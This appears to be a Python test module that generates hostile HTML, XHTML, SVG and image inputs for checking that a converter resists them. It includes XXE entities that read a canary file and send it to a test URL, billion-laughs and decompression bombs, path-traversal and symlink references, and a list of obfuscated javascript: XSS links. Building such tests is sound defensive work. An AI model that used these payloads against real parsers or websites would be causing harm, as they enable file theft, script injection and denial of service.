"""Hostile HTML and XHTML: entities, nesting, huge attributes and node
counts, local-file and remote references, scripts and obfuscated links,
wrong and missing encodings."""

# ruff: noqa: E501  (hostile markup is clearest on one line)

from __future__ import annotations

import os
from collections.abc import Callable
from pathlib import Path

from .inputs import SAFE_TEXT, Case, Env, Outcome, html_page, png, small_png

CASES: list[Case] = []
MiB = 1 << 20


def case(
    cls: str,
    outcome: Outcome = "ok",
    *,
    error: str | None = None,
    keeps: str | None = SAFE_TEXT,
    isolate: bool = False,
    ext: str = ".html",
) -> Callable[[Callable[[Env], bytes | str]], Callable[[Env], bytes | str]]:
    """Register a case whose function returns the page (written as
    ``<name><ext>`` in the input folder)."""

    def deco(fn: Callable[[Env], bytes | str]) -> Callable[[Env], bytes | str]:
        name = fn.__name__.replace("_", "-")

        def build(env: Env) -> Path:
            return env.write(f"{name}{ext}", fn(env))

        CASES.append(Case(name, cls, build, outcome, error, keeps, isolate))
        return fn

    return deco


XHTML_HEAD = '<?xml version="1.0" encoding="utf-8"?>\n'
XHTML_NS = 'xmlns="http://www.w3.org/1999/xhtml"'


def xhtml(dtd: str, body: str) -> str:
    return (
        f'{XHTML_HEAD}<!DOCTYPE html [\n{dtd}\n]>\n<html {XHTML_NS} lang="en"><head><title>Entities</title>'
        f"</head><body><main><h1>Entities</h1><p>{SAFE_TEXT}</p>{body}</main></body></html>\n"
    )


# ------------------------------------------------------------ XML entities


@case("xml-entities", ext=".xhtml")
def xxe_file_entity(env: Env) -> str:
    return xhtml(
        f'<!ENTITY xxe SYSTEM "file://{env.canary}"><!ENTITY rel SYSTEM "../../secret/canary.txt">',
        "<p>before &xxe; middle &rel; after</p>",
    )


@case("xml-entities", ext=".xhtml")
def xxe_remote_and_parameter_entities(env: Env) -> str:
    return xhtml(
        f'<!ENTITY % remote SYSTEM "{env.url}/evil.dtd"> %remote;'
        f'<!ENTITY % file SYSTEM "file://{env.canary}">'
        f"<!ENTITY % wrap \"<!ENTITY exfil SYSTEM '{env.url}/?%file;'>\"> %wrap;"
        f'<!ENTITY net SYSTEM "{env.url}/entity.txt">',
        "<p>&exfil; &net;</p>",
    )


@case("xml-entities", ext=".xhtml")
def external_dtd_and_xinclude(env: Env) -> str:
    return (
        f'{XHTML_HEAD}<?xml-stylesheet type="text/xsl" href="file://{env.canary}"?>\n'
        f'<!DOCTYPE html SYSTEM "file://{env.secret}/canary.xml">\n'
        f'<html {XHTML_NS} xmlns:xi="http://www.w3.org/2001/XInclude" lang="en"><head><title>x</title></head>'
        f"<body><main><h1>XInclude</h1><p>{SAFE_TEXT}</p>"
        f'<xi:include href="file://{env.canary}" parse="text"/>'
        f'<xi:include href="{env.url}/inc.xml"/></main></body></html>\n'
    )


def _laughs(levels: int = 10, fanout: int = 10) -> str:
    lines = ['<!ENTITY lol0 "lol">']
    refs = "".join
    for i in range(1, levels):
        lines.append(f'<!ENTITY lol{i} "{refs(f"&lol{i - 1};" for _ in range(fanout))}">')
    return "\n".join(lines)


@case("xml-entities", ext=".xhtml")
def billion_laughs(env: Env) -> str:
    env.write(
        "laughs.svg",
        f'<?xml version="1.0"?><!DOCTYPE svg [{_laughs()}]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>',
    )
    return xhtml(_laughs(), '<p>&lol9;</p><p><img src="laughs.svg" alt="an SVG bomb"/></p>')


@case("xml-entities", ext=".xhtml")
def quadratic_blowup(env: Env) -> str:
    return xhtml(f'<!ENTITY big "{"A" * 100_000}">', "<p>" + "&big;" * 20_000 + "</p>")


@case("xml-entities")
def billion_laughs_in_inline_svg(env: Env) -> str:
    svg = (
        f'<svg xmlns="http://www.w3.org/2000/svg"><!DOCTYPE svg [{_laughs()}]>'
        "<title>&lol9;</title><text>&lol9;</text></svg>"
    )
    return html_page(svg)


@case("xml-entities", ext=".svg")
def billion_laughs_svg_file(env: Env) -> str:
    env.write(
        "laughs.svg",
        f'<?xml version="1.0"?><!DOCTYPE svg [{_laughs()}]><svg xmlns="http://www.w3.org/2000/svg"><text>&lol9;</text></svg>',
    )
    return (
        f'<?xml version="1.0"?>\n<!DOCTYPE svg [\n{_laughs()}\n<!ENTITY xxe SYSTEM "file://{env.canary}">\n]>\n'
        '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"<title>{SAFE_TEXT}</title><text>&lol9; &xxe;</text>"
        f'<image xlink:href="file://{env.canary_png}"/><foreignObject><p>{SAFE_TEXT}</p></foreignObject></svg>\n'
    )


@case("xml-entities", ext=".xhtml")
def billion_laughs_in_svg_document(env: Env) -> str:
    return (
        f"{XHTML_HEAD}<!DOCTYPE svg [\n{_laughs()}\n]>\n"
        f'<html {XHTML_NS} lang="en"><head><title>SVG</title></head><body><main><p>{SAFE_TEXT}</p>'
        '<svg xmlns="http://www.w3.org/2000/svg"><title>&lol9;</title><text>&lol9;</text></svg>'
        "</main></body></html>\n"
    )


# ------------------------------------------------------------ deep nesting


def _nested(open_: str, close: str, depth: int, inner: str = "deep text") -> str:
    return open_ * depth + inner + close * depth


@case("deep-nesting", "error", keeps=None, error="elements")
def divs_100k_deep(env: Env) -> str:
    return html_page(_nested("<div>", "</div>", 100_000))


@case("deep-nesting", "error", keeps=None, error="elements")
def inline_100k_deep(env: Env) -> str:
    return html_page("<p>" + _nested("<b><i><span>", "</span></i></b>", 35_000) + "</p>")


@case("deep-nesting", "error", keeps=None, error="elements")
def unclosed_tags_100k(env: Env) -> str:
    return html_page("<div><section><blockquote>" * 35_000 + "unclosed")


@case("deep-nesting")
def divs_20k_deep(env: Env) -> str:
    return html_page(_nested("<div>", "</div>", 25_000))


@case("deep-nesting")
def nested_lists_and_tables(env: Env) -> str:
    return html_page(
        _nested("<ul><li>", "</li></ul>", 6_000) + _nested("<table><tr><td>", "</td></tr></table>", 5_000)
    )


@case("deep-nesting")
def nested_data_tables(env: Env) -> str:
    return html_page(
        _nested("<table><tr><th>h</th><td>x</td></tr><tr><td>c</td><td>", "</td></tr></table>", 2_000)
    )


@case("deep-nesting", "error", keeps=None, error="elements")
def deep_inline_svg(env: Env) -> str:
    return html_page(
        '<svg xmlns="http://www.w3.org/2000/svg">'
        + _nested("<g>", "</g>", 100_000, "<text>x</text>")
        + "</svg>"
    )


# --------------------------------------------------------- huge and many


@case("huge")
def huge_attributes_10mb(env: Env) -> str:
    big = "x" * (10 * MiB)
    return html_page(
        f'<p title="{big}" class="{big[:MiB]}">title</p><p><img src="pic.png" alt="{big}"></p>'
        f'<p><a href="https://example.org/{big}">long link</a></p><p id="{big[: 2 * MiB]}">id</p>'
    )


@case("huge", "error", keeps=None, error="elements")
def many_nodes(env: Env) -> str:
    return html_page("<p>" + "<b>x</b> " * 400_000 + "</p>" + "<p>para</p>" * 100_000)


@case("huge")
def many_nodes_under_the_limit(env: Env) -> str:
    return html_page("<p>" + "<b>x</b> " * 12_000 + "</p>" + "<p>para</p>" * 17_000)


@case("huge")
def one_huge_word(env: Env) -> str:
    return html_page("<p>" + "w" * (8 * MiB) + "</p>")


@case("huge")
def many_attributes_on_one_element(env: Env) -> str:
    attrs = " ".join(f'data-a{i}="{i}"' for i in range(200_000))
    return html_page(f"<p {attrs}>many attributes</p>")


@case("huge")
def huge_table(env: Env) -> str:
    row = "<tr>" + "<td>c</td>" * 50 + "</tr>"
    return html_page('<table><tr><th colspan="65534" rowspan="65534">h</th></tr>' + row * 500 + "</table>")


# ------------------------------------------------------ local references


def _local_refs(env: Env, base: str = "") -> str:
    """Every way to point at the canaries from a page in the input folder."""
    c, png_ = env.canary, env.canary_png
    rel = "../../secret/canary.png"
    return f"""
<p><img src="{png_}" alt="absolute"><img src="file://{png_}" alt="file url">
<img src="file:///{str(png_).lstrip("/")}" alt="file url 3 slashes"><img src="{rel}" alt="dotdot">
<img src="images/../../../secret/canary.png" alt="dotdot inside"><img src="%2e%2e/%2e%2e/secret/canary.png" alt="encoded">
<img src="..\\..\\secret\\canary.png" alt="backslashes"><img src="link.png" alt="symlink">
<img src="linked/canary.png" alt="symlinked folder"><img src="pic.png" alt="ordinary image">
<img src="" srcset="{rel} 1x, file://{png_} 2x, {png_} 300w" alt="srcset">
<img data-src="{rel}" data-srcset="{png_} 2x" src="spacer.gif" alt="lazy"></p>
<picture><source srcset="{rel}"><source srcset="file://{png_}" type="image/png"><img src="{png_}" alt="picture"></picture>
<p style="background: url('{rel}'); background-image: url(file://{png_})">styled</p>
<style>@import url("file://{env.secret}/canary.css"); p {{ background: url({rel}) }}</style>
<link rel="stylesheet" href="../../secret/canary.css"><link rel="import" href="file://{env.secret}/canary.html">
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"><title>svg image</title>
<image href="{rel}"/><image xlink:href="file://{png_}"/><use href="file://{env.secret}/canary.svg#x"/>
<feImage href="{rel}"/></svg>
<object data="file://{c}" type="text/plain">object fallback</object><embed src="{rel}">
<iframe src="file://{c}" title="frame"></iframe><iframe srcdoc="&lt;p&gt;{env.token}-srcdoc&lt;/p&gt;"></iframe>
<video poster="{rel}" src="file://{c}"><track src="file://{c}"></video><audio src="{rel}"></audio>
<input type="image" src="{rel}" alt="input"><table background="{rel}"><tr><td background="{rel}">cell</td></tr></table>
<a href="file://{c}">file link</a> <a href="../../secret/canary.txt">relative link</a>
"""


def _prepare_folder(env: Env) -> None:
    env.write("pic.png", small_png())
    link = env.folder / "link.png"
    if not link.exists():
        os.symlink(env.canary_png, link)
    linked = env.folder / "linked"
    if not linked.exists():
        os.symlink(env.secret, linked, target_is_directory=True)


@case("local-refs")
def local_file_references(env: Env) -> str:
    _prepare_folder(env)
    return html_page(_local_refs(env))


@case("local-refs")
def base_href_to_the_secret_folder(env: Env) -> str:
    _prepare_folder(env)
    head = f'<base href="file://{env.secret}/">'
    return html_page(
        '<p><img src="canary.png" alt="via base"><a href="canary.txt">via base</a></p>' + _local_refs(env),
        head=head,
    )


@case("local-refs")
def meta_refresh_and_body_background(env: Env) -> str:
    head = f'<meta http-equiv="refresh" content="0; url=file://{env.canary}">'
    return html_page(f"<p>{env.folder.name}</p>", head=head).replace(
        "<body>", f'<body background="file://{env.canary_png}">'
    )


@case("local-refs")
def symlinked_image_folder(env: Env) -> str:
    _prepare_folder(env)
    return html_page(
        '<figure><img src="linked/canary.png" alt="through a symlinked folder"><figcaption>c</figcaption></figure>'
    )


# ----------------------------------------------------- remote references


@case("remote-refs")
def remote_references(env: Env) -> str:
    u = env.url
    return html_page(
        f"""
<p><img src="{u}/a.png" alt="remote"><img src="//127.0.0.1:{env.port}/b.png" alt="protocol relative">
<img srcset="{u}/c.png 1x, {u}/d.png 2x" alt="srcset"><img src="data:," data-src="{u}/lazy.png" alt="lazy"></p>
<picture><source srcset="{u}/e.webp"><img src="{u}/f.png" alt="picture"></picture>
<p style="background:url({u}/g.png)">styled</p><style>@import "{u}/h.css";</style>
<link rel="stylesheet" href="{u}/i.css"><link rel="preload" href="{u}/j.js" as="script">
<link rel="prefetch" href="{u}/k"><link rel="dns-prefetch" href="{u}">
<svg xmlns="http://www.w3.org/2000/svg"><title>svg</title><image href="{u}/l.png"/></svg>
<object data="{u}/m.swf">object</object><embed src="{u}/n.swf"><iframe src="{u}/o.html" title="t"></iframe>
<video poster="{u}/p.png"><source src="{u}/q.mp4"></video><audio src="{u}/r.mp3"></audio>
<form action="{u}/s"><input name="q"></form><a href="{u}/t.html" ping="{u}/ping">a link</a>
""",
        head=f'<base href="{u}/"><meta http-equiv="refresh" content="0; url={u}/refresh">',
    )


# -------------------------------------------------------------- scripts


@case("scripts")
def scripts_and_event_handlers(env: Env) -> str:
    u = env.url
    return html_page(
        f"""
<script>document.write('<p>{env.token}-script</p>')</script><script src="{u}/x.js"></script>
<noscript><p>noscript text</p></noscript><template><p>template text</p></template>
<p onclick="alert(1)" onmouseover="alert(2)">handlers</p><img src="x" onerror="alert(3)" alt="onerror">
<svg onload="alert(4)"><script>alert(5)</script><title>svg</title></svg>
<details open ontoggle="alert(6)"><summary>s</summary>details</details>
<div style="width: expression(alert(7)); background: url(javascript:alert(8))">css expression</div>
<math><maction actiontype="statusline" xlink:href="javascript:alert(9)">m</maction></math>
<form action="javascript:alert(10)"><button formaction="javascript:alert(11)">b</button></form>
<iframe src="javascript:alert(12)" title="js frame"></iframe><object data="javascript:alert(13)">o</object>
<embed src="javascript:alert(14)"><isindex action="javascript:alert(15)">
""",
        head='<base href="javascript:alert(16)//"><meta http-equiv="refresh" content="0;url=javascript:alert(17)">',
    )


@case("scripts")
def obfuscated_javascript_links(env: Env) -> str:
    hrefs = [
        "javascript:alert(1)", "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)",
        "jav&#x0D;ascript:alert(1)", "java&Tab;script:alert(1)", "java&NewLine;script:alert(1)",
        "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)",
        "&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)",
        "&#0000106avascript:alert(1)", "javascript&colon;alert(1)", " \x01\x02javascript:alert(1)",
        "\x00javascript:alert(1)", "java\x00script:alert(1)", "  JAVASCRIPT:alert(1)", "vbscript:msgbox(1)",
        "VBScript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
        "DATA:text/html,<script>alert(1)</script>", "livescript:alert(1)", "mocha:alert(1)",
        "javascript://%0Aalert(1)", "jar:file:///x!/", "view-source:javascript:alert(1)", "\\\\evil\\share",
    ]  # fmt: skip
    links = "\n".join(f'<li><a href="{h}">link {i}</a></li>' for i, h in enumerate(hrefs))
    areas = '<map name="m"><area href="javascript:alert(1)" alt="area"></map>'
    svg = '<svg xmlns:xlink="http://www.w3.org/1999/xlink"><a xlink:href="javascript:alert(1)"><text>t</text></a><title>s</title></svg>'
    return html_page(f"<ul>{links}</ul>{areas}{svg}")


@case("scripts")
def markup_in_text_and_attributes(env: Env) -> str:
    return html_page(
        '<p title="&quot;&gt;&lt;script&gt;alert(1)&lt;/script&gt;">&lt;script&gt;alert(1)&lt;/script&gt;</p>'
        '<p><img src="pic.png" alt="&quot; onerror=&quot;alert(1)"></p>'
        '<h2 id="x&quot; onclick=&quot;alert(1)">heading</h2><p lang="en&quot; onclick=&quot;x">lang</p>'
        "<pre>&lt;/pre&gt;&lt;script&gt;alert(1)&lt;/script&gt;</pre><p><code>]]&gt;&lt;!--</code></p>"
    )


# ------------------------------------------------------------- encodings


_PAGE_TEXT = html_page("<p>Grüße, naïve café — “quotes”</p>")


@case("encodings")
def utf16le_without_bom(env: Env) -> bytes:
    return _PAGE_TEXT.encode("utf-16-le")


@case("encodings")
def utf16be_without_bom(env: Env) -> bytes:
    return _PAGE_TEXT.encode("utf-16-be")


@case("encodings")
def cp1252_declared_as_utf8(env: Env) -> bytes:
    return _PAGE_TEXT.encode("cp1252")


@case("encodings")
def invalid_and_overlong_utf8(env: Env) -> bytes:
    page = html_page("<p>bad \xff\xfe bytes, overlong \xc0\xbcscript\xc0\xbe, cut \xe2\x82</p>")
    return page.encode("latin-1").replace(b'charset="utf-8"', b'charset="utf-8"')


@case("encodings")
def nul_bytes_everywhere(env: Env) -> bytes:
    return (
        html_page("<p>nul\x00in\x00text</p><a href='java\x00script:alert(1)'>x</a>")
        .encode()
        .replace(b"<", b"\x00<")
    )


@case("encodings")
def lone_surrogate_and_bad_references(env: Env) -> str:
    return html_page(
        "<p>&#xD800; &#xDFFF; &#0; &#x110000; &#xFFFE; &#x1B; &#128; &#x7F; &#99999999999; &#x;</p>"
        '<p title="&#xD800;&#0;">attribute</p><p><img src="pic.png" alt="&#xD800;&#1;"></p>'
    )


@case("encodings")
def utf7_declared(env: Env) -> bytes:
    page = html_page("<p>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</p>").replace(
        'charset="utf-8"', 'charset="utf-7"'
    )
    return page.encode("ascii")


@case("encodings")
def bogus_and_conflicting_charsets(env: Env) -> bytes:
    head = '<meta http-equiv="Content-Type" content="text/html; charset=x-no-such-charset">'
    page = html_page("<p>café</p>", head=head).replace('charset="utf-8"', 'charset="utf-16"')
    return b"\xef\xbb\xbf" + page.encode("utf-8")


@case("encodings")
def control_characters_in_html(env: Env) -> bytes:
    return html_page("<p>c\x01o\x02n\x07t\x08r\x0bo\x0cl\x1b \x7f\x80\x9f chars</p>").encode()


# ------------------------------------------------------- images (bombs)


@case("bomb")
def png_with_huge_dimensions(env: Env) -> str:
    import zlib

    env.write("huge.png", png(100_000, 100_000, zlib.compress(bytes(1000))))
    env.write("wide.png", png(2**31 - 1, 1, zlib.compress(bytes(1000))))
    return html_page('<p><img src="huge.png" alt="huge"><img src="wide.png" alt="wide"></p>')


@case("bomb", isolate=True)
def png_decompression_bomb(env: Env) -> str:
    from . import pdfgen

    side = 20_000  # 400 million pixels of zeros, in about 400 KB
    env.write("bomb.png", png(side, side, pdfgen.flate_zeros((side + 1) * side, chunk=side + 1)))
    return html_page('<figure><img src="bomb.png" alt="bomb"><figcaption>bomb</figcaption></figure>')


@case("bomb")
def gif_and_webp_with_huge_canvas(env: Env) -> str:
    gif = (
        b"GIF89a"
        + (65535).to_bytes(2, "little") * 2
        + b"\x00\x00\x00"
        + b",\x00\x00\x00\x00"
        + (65535).to_bytes(2, "little") * 2
        + b"\x00\x02\x02D\x01\x00;"
    )
    env.write("huge.gif", gif)
    webp = b"RIFF\x1a\x00\x00\x00WEBPVP8L\x0d\x00\x00\x00\x2f\xff\xff\xff\x0f" + bytes(8)
    env.write("huge.webp", webp)
    data_uri = "data:image/png;base64," + __import__("base64").b64encode(png(60_000, 60_000, b"x")).decode()
    return html_page(
        f'<p><img src="huge.gif" alt="gif"><img src="huge.webp" alt="webp"><img src="{data_uri}" alt="data"></p>'
    )
